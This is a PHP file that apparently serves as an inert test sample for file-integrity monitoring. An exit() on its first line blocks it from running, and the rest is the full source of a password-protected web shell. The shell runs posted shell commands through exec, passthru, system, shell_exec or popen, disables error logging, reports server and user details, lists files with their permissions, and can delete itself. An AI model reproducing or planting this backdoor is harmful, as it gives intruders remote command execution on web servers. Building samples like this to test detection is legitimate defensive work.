<?php exit('inert fim test sample'); ?>
<?php
$auth_pass = "0f359740bd1cda994f8b55330c86d845";
$default_action = 'Files';
@ini_set('log_errors', 0);
@set_time_limit(0);
function login_form() {
    echo "<form method=post>Password: <input type=password name=pass><input type=submit></form>";
    exit;
}
if (!isset($_COOKIE['sess_k']) || $_COOKIE['sess_k'] != $auth_pass) {
    if (empty($_POST['pass']) || md5($_POST['pass']) != $auth_pass) {
        login_form();
    }
    setcookie('sess_k', $auth_pass);
}
function run_cmd($in) {
    $out = '';
    if (function_exists('exec')) { @exec($in, $out); $out = @join("\n", $out); }
    elseif (function_exists('passthru')) { ob_start(); @passthru($in); $out = ob_get_clean(); }
    elseif (function_exists('system')) { ob_start(); @system($in); $out = ob_get_clean(); }
    elseif (function_exists('shell_exec')) { $out = shell_exec($in); }
    elseif (is_resource($f = @popen($in, "r"))) { while (!@feof($f)) { $out .= fread($f, 1024); } pclose($f); }
    return $out;
}
function page_info() {
    echo php_uname() . '<br>' . $_SERVER['SERVER_SOFTWARE'] . '<br>';
    $u = posix_getpwuid(posix_geteuid());
    echo 'uid: ' . $u['name'] . ' disable_functions: ' . @ini_get('disable_functions');
}
function page_files() {
    $d = isset($_POST['c']) ? $_POST['c'] : getcwd();
    foreach (scandir($d) as $f) {
        echo $f . ' ' . substr(sprintf('%o', fileperms($d . '/' . $f)), -4) . "<br>";
    }
}
function page_console() {
    if (!empty($_POST['c'])) { @chdir($_POST['c']); }
    echo "<pre>" . htmlspecialchars(run_cmd($_POST['p1'] . ' 2>&1')) . "</pre>";
    echo "<form method=post><textarea name=p1></textarea></form>";
}
function page_remove() {
    if (@unlink(preg_replace('!\(\d+\)\s.*!', '', __FILE__))) { die('removed'); }
}
$a = 'page_' . (isset($_POST['a']) ? $_POST['a'] : 'files');
if (function_exists($a)) { $a(); }
